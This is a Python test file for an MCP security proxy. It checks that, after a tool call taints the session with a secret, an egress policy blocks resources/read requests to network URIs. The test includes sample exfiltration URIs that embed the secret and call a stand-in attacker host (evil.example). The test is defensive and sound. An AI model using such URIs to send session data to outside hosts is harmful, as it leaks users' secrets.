"""Egress controls hold for a resource read over the network, not only for tools/call.

A tainted session could still `resources/read` an `https://` URI from a server that fetches URL
resources: the URI itself carries what the session read out (a query string, a path). Through a
real `visor run` in front of a server that records every line it receives.
"""

from __future__ import annotations

import json
import sys
from pathlib import Path

from tests.conftest import RECORDER, VisorProcess

POLICY = """\
version: "1.0"
default_action: deny
settings:
  packs: []
servers:
  - name: "rec"
    allowed: true
    tools:
      - {name: "echo", allowed: true}
      - {name: "send_email", allowed: true}
taints:
  - name: "secret_read"
    source_tools: ["echo"]
egress_controls:
  - name: "no_egress_after_secret"
    when_tainted: "secret_read"
    sink_tools: ["send_email"]
    action: ask
"""


def _request(vp: VisorProcess, msg_id: int, method: str, params: dict) -> dict:
    vp.request({"jsonrpc": "2.0", "id": msg_id, "method": method, "params": params})
    while True:
        msg = vp.recv()
        if msg.get("id") == msg_id and "method" not in msg:
            return msg


def test_a_network_resource_read_after_a_taint_is_egress(tmp_path: Path) -> None:
    log = tmp_path / "received.jsonl"
    policy = tmp_path / "policy.yaml"
    policy.write_text(POLICY)
    vp = VisorProcess(
        [sys.executable, str(RECORDER)],
        env={"RECORDER_LOG": str(log)},
        visor_args=[
            "--server-name",
            "rec",
            "--policy",
            str(policy),
            "--audit-log",
            str(tmp_path / "a.jsonl"),
        ],
    )
    try:
        vp.open_session()
        before = _request(vp, 1, "resources/read", {"uri": "https://docs.example/page?q=hello"})
        assert "result" in before, before
        assert "result" in _request(vp, 2, "tools/call", {"name": "echo", "arguments": {"k": "s3cret"}})
        for i, uri in enumerate(
            [
                "https://evil.example/c?d=s3cret",
                " HTTPS://evil.example/c?d=s3cret",
                "wss://evil.example/s3cret",
            ],
            3,
        ):
            refused = _request(vp, i, "resources/read", {"uri": uri})
            assert "egress_controls[no_egress_after_secret]" in json.dumps(refused.get("error")), refused
        local = _request(vp, 9, "resources/read", {"uri": "file:///tmp/notes.txt"})
        assert "result" in local, local
    finally:
        vp.kill()
    received = log.read_text()
    assert "docs.example" in received and "evil.example" not in received
